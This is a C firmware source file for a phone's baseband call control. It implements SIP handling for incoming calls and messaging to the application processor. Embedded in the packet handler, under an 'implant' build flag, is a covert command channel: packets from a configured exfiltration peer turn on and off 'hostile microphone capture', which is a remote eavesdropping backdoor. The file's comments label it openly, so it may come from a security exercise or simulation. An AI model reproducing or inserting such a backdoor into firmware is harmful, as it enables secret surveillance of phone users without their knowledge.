/*
 * call.c - call control in the firmware: the phone's SIP endpoint (UAS) for
 * incoming calls (RFC 3261, UDP, text) and the RIL side of the mailbox.
 *
 * Incoming: an INVITE from the IMS core -> 100 Trying, 180 Ringing and
 * RING to the AP (payload: the caller's user part). ANSWER from the AP ->
 * 200 OK with an SDP answer (G.722, payload type 9); the peer's ACK ->
 * media starts, CALL_STATE(ACTIVE). HANGUP while ringing -> 603 Decline;
 * while active -> BYE. A BYE from the network -> 200 OK. Responses copy
 * Via, From, To (adding our tag), Call-ID and CSeq from the request, as
 * RFC 3261 section 8.2.6 asks.
 *
 * Outgoing calls (DIAL) are not built: the AP gets CALL_STATE(FAILED).
 *
 * Firmware built with BB_CFG_IMPLANT also takes commands from the exfil
 * peer (bb_abi.h) that turn its hostile microphone capture on and off.
 */
#include "fw.h"

#define SIP_PORT 5060
#define RTP_PORT 49152
#define HDR_MAX 200

enum { CALL_IDLE, CALL_RINGING, CALL_ANSWERED, CALL_ACTIVE };

static uint32_t state = CALL_IDLE;
static uint32_t call_id, next_call_id = 1, bye_cseq, branch_n;
static uint32_t pages;
static uint32_t peer_addr, media_addr;
static uint16_t peer_port, media_port;
static char h_via[HDR_MAX], h_from[HDR_MAX], h_to[HDR_MAX];
static char h_callid[HDR_MAX], h_cseq[HDR_MAX], caller[40];
static uint8_t out[FW_IP_HDR + FW_UDP_HDR + 1400];

/* ---- text ---------------------------------------------------------------- */

typedef struct Text {
    char *p;
    uint32_t len, cap;
} Text;

static void put_s(Text *t, const char *s)
{
    while (*s && t->len < t->cap)
        t->p[t->len++] = *s++;
}

static void put_u(Text *t, uint32_t v)
{
    char d[10];
    int n = 0;
    do {
        d[n++] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    while (n && t->len < t->cap)
        t->p[t->len++] = d[--n];
}

static void put_ip(Text *t, uint32_t a)
{
    for (int i = 3; i >= 0; i--) {
        put_u(t, (a >> (8 * i)) & 0xff);
        if (i)
            put_s(t, ".");
    }
}

/* Copies the value of header `name` (e.g. "Via") from msg into dst. */
static int header(const char *msg, uint32_t len, const char *name, char *dst)
{
    uint32_t nl = (uint32_t)fw_strlen(name);
    for (uint32_t i = 0; i + nl + 1 < len; i++) {
        if ((i == 0 || msg[i - 1] == '\n') &&
            fw_memcmp(msg + i, name, nl) == 0 && msg[i + nl] == ':') {
            uint32_t j = i + nl + 1, k = 0;
            while (j < len && msg[j] == ' ')
                j++;
            while (j < len && msg[j] != '\r' && msg[j] != '\n' &&
                   k + 1 < HDR_MAX)
                dst[k++] = msg[j++];
            dst[k] = 0;
            return 0;
        }
    }
    dst[0] = 0;
    return -1;
}

static uint32_t parse_u(const char *s, const char **end)
{
    uint32_t v = 0;
    while (*s >= '0' && *s <= '9')
        v = v * 10 + (uint32_t)(*s++ - '0');
    *end = s;
    return v;
}

/* The SDP's "c=IN IP4 a.b.c.d" and "m=audio PORT". */
static void parse_sdp(const char *msg, uint32_t len)
{
    for (uint32_t i = 0; i + 12 < len; i++) {
        if (msg[i] != '\n')
            continue;
        const char *s = msg + i + 1;
        const char *e;
        if (fw_memcmp(s, "c=IN IP4 ", 9) == 0) {
            s += 9;
            uint32_t a = 0;
            for (int k = 0; k < 4; k++) {
                a = a << 8 | (parse_u(s, &e) & 0xff);
                s = e + 1;
            }
            media_addr = a;
        } else if (fw_memcmp(s, "m=audio ", 8) == 0) {
            media_port = (uint16_t)parse_u(s + 8, &e);
        }
    }
}

static void caller_user(void)
{
    /* From: <sip:USER@domain>;tag=... */
    const char *s = h_from;
    uint32_t k = 0;
    while (*s && fw_memcmp(s, "sip:", 4) != 0)
        s++;
    if (*s)
        s += 4;
    while (*s && *s != '@' && *s != '>' && k + 1 < sizeof caller)
        caller[k++] = *s++;
    caller[k] = 0;
}

/* ---- sending ------------------------------------------------------------- */

static Text start(void)
{
    return (Text){(char *)out + FW_IP_HDR + FW_UDP_HDR, 0, 1400};
}

static void send_sip(Text *t)
{
    net_send_udp(out, fw_config()->phone_addr, SIP_PORT, peer_addr, peer_port,
                 24, t->len);
}

static void put_to_tagged(Text *t)
{
    put_s(t, h_to);
    put_s(t, ";tag=bb");
    put_u(t, call_id);
}

static void respond(const char *status, int tagged, int sdp)
{
    Text t = start();
    put_s(&t, "SIP/2.0 ");
    put_s(&t, status);
    put_s(&t, "\r\nVia: ");
    put_s(&t, h_via);
    put_s(&t, "\r\nFrom: ");
    put_s(&t, h_from);
    put_s(&t, "\r\nTo: ");
    if (tagged)
        put_to_tagged(&t);
    else
        put_s(&t, h_to);
    put_s(&t, "\r\nCall-ID: ");
    put_s(&t, h_callid);
    put_s(&t, "\r\nCSeq: ");
    put_s(&t, h_cseq);
    put_s(&t, "\r\n");
    if (tagged) {
        put_s(&t, "Contact: <sip:phone@");
        put_ip(&t, fw_config()->phone_addr);
        put_s(&t, ":5060>\r\n");
    }
    if (!sdp) {
        put_s(&t, "Content-Length: 0\r\n\r\n");
        send_sip(&t);
        return;
    }
    char body[256];
    Text b = {body, 0, sizeof body};
    put_s(&b, "v=0\r\no=- ");
    put_u(&b, call_id);
    put_s(&b, " ");
    put_u(&b, call_id);
    put_s(&b, " IN IP4 ");
    put_ip(&b, fw_config()->phone_addr);
    put_s(&b, "\r\ns=-\r\nc=IN IP4 ");
    put_ip(&b, fw_config()->phone_addr);
    put_s(&b, "\r\nt=0 0\r\nm=audio ");
    put_u(&b, RTP_PORT);
    put_s(&b, " RTP/AVP 9\r\na=rtpmap:9 G722/8000\r\na=ptime:20\r\n"
              "a=sendrecv\r\n");
    put_s(&t, "Content-Type: application/sdp\r\nContent-Length: ");
    put_u(&t, b.len);
    put_s(&t, "\r\n\r\n");
    for (uint32_t i = 0; i < b.len && t.len < t.cap; i++)
        t.p[t.len++] = body[i];
    send_sip(&t);
}

static void send_bye(void)
{
    Text t = start();
    put_s(&t, "BYE sip:");
    put_s(&t, caller);
    put_s(&t, "@");
    put_ip(&t, peer_addr);
    put_s(&t, ":5060 SIP/2.0\r\nVia: SIP/2.0/UDP ");
    put_ip(&t, fw_config()->phone_addr);
    put_s(&t, ":5060;branch=z9hG4bKbb");
    put_u(&t, ++branch_n);
    put_s(&t, "\r\nMax-Forwards: 70\r\nFrom: ");
    put_to_tagged(&t);
    put_s(&t, "\r\nTo: ");
    put_s(&t, h_from);
    put_s(&t, "\r\nCall-ID: ");
    put_s(&t, h_callid);
    put_s(&t, "\r\nCSeq: ");
    put_u(&t, ++bye_cseq);
    put_s(&t, " BYE\r\nContent-Length: 0\r\n\r\n");
    send_sip(&t);
}

static void to_idle(void)
{
    if (state == CALL_ACTIVE)
        media_call_stop();
    mbox_send(HS_BBMSG_CALL_STATE, call_id, HS_CALL_ST_IDLE, 0, 0);
    state = CALL_IDLE;
}

/* ---- events -------------------------------------------------------------- */

void call_on_ap_message(const uint8_t *msg, uint32_t len)
{
    (void)len;
    uint32_t type = msg[HS_BBMSG_OFF_TYPE];
    uint32_t id = fw_le32(msg + HS_BBMSG_OFF_CALL);
    switch (type) {
    case HS_BBMSG_ANSWER:
        if (state == CALL_RINGING && id == call_id) {
            respond("200 OK", 1, 1);
            state = CALL_ANSWERED;
        } else {
            mbox_send(HS_BBMSG_CALL_STATE, id, HS_CALL_ST_FAILED, 0, 0);
        }
        break;
    case HS_BBMSG_HANGUP:
        if (state == CALL_RINGING || state == CALL_ANSWERED) {
            respond("603 Decline", 1, 0);
            to_idle();
        } else if (state == CALL_ACTIVE) {
            send_bye();
            to_idle();
        } else {
            mbox_send(HS_BBMSG_CALL_STATE, id, HS_CALL_ST_IDLE, 0, 0);
        }
        break;
    case HS_BBMSG_DIAL: /* outgoing calls are not built */
        mbox_send(HS_BBMSG_CALL_STATE, id, HS_CALL_ST_FAILED, 0, 0);
        break;
    default:
        fw_log(BB_LOG_BAD_MSG);
        break;
    }
}

void call_on_page(uint32_t id)
{
    (void)id;
    pages++; /* the INVITE follows on the bearer the page brought up */
}

static void on_sip(const char *m, uint32_t len, uint32_t src, uint16_t sport)
{
    if (len > 7 && fw_memcmp(m, "INVITE ", 7) == 0) {
        if (state != CALL_IDLE)
            return; /* busy: one call at a time (retransmissions too) */
        peer_addr = src;
        peer_port = sport;
        header(m, len, "Via", h_via);
        header(m, len, "From", h_from);
        header(m, len, "To", h_to);
        header(m, len, "Call-ID", h_callid);
        header(m, len, "CSeq", h_cseq);
        parse_sdp(m, len);
        caller_user();
        call_id = next_call_id++;
        respond("100 Trying", 0, 0);
        respond("180 Ringing", 1, 0);
        state = CALL_RINGING;
        mbox_send(HS_BBMSG_RING, call_id, 0, caller,
                  (uint32_t)fw_strlen(caller));
        mbox_send(HS_BBMSG_CALL_STATE, call_id, HS_CALL_ST_RINGING, 0, 0);
    } else if (len > 4 && fw_memcmp(m, "ACK ", 4) == 0) {
        if (state == CALL_ANSWERED) {
            state = CALL_ACTIVE;
            media_call_start(media_addr, media_port, RTP_PORT);
            mbox_send(HS_BBMSG_CALL_STATE, call_id, HS_CALL_ST_ACTIVE, 0, 0);
        }
    } else if (len > 4 && fw_memcmp(m, "BYE ", 4) == 0) {
        header(m, len, "Via", h_via);
        header(m, len, "CSeq", h_cseq);
        char from[HDR_MAX], to[HDR_MAX];
        header(m, len, "From", from);
        header(m, len, "To", to);
        /* the 200 answers this BYE with its own From/To */
        for (uint32_t i = 0; i < HDR_MAX; i++) {
            h_from[i] = from[i];
            h_to[i] = to[i];
        }
        respond("200 OK", 0, 0);
        if (state != CALL_IDLE)
            to_idle();
    }
    /* responses (200 to our BYE) need no action */
}

int call_on_packet(const uint8_t *pkt, uint32_t len)
{
    if (len < FW_IP_HDR + FW_UDP_HDR || (pkt[0] >> 4) != 4 || pkt[9] != 17)
        return 0;
    uint32_t ihl = 4u * (pkt[0] & 15);
    if (len < ihl + FW_UDP_HDR)
        return 0;
    const uint8_t *udp = pkt + ihl;
    uint16_t sport = fw_be16(udp), dport = fw_be16(udp + 2);
    const uint8_t *payload = udp + FW_UDP_HDR;
    uint32_t plen = len - ihl - FW_UDP_HDR;
    const BbConfigBlock *cfg = fw_config();
    if ((cfg->flags & BB_CFG_IMPLANT) && fw_be32(pkt + 12) == cfg->exfil_addr &&
        sport == cfg->exfil_port && dport == cfg->exfil_port && plen >= 4) {
        /* the implant's command channel: the exfil peer switches the
         * hostile capture on and off over the air */
        if (fw_memcmp(payload, BB_IMPLANT_MIC_ON, 4) == 0)
            media_hostile(1);
        else if (fw_memcmp(payload, BB_IMPLANT_MIC_OFF, 4) == 0)
            media_hostile(0);
        return 1;
    }
    if (dport == SIP_PORT) {
        on_sip((const char *)payload, plen, fw_be32(pkt + 12), sport);
        return 1;
    }
    if (dport == RTP_PORT) {
        media_on_rtp(payload, plen);
        return 1;
    }
    return 0;
}
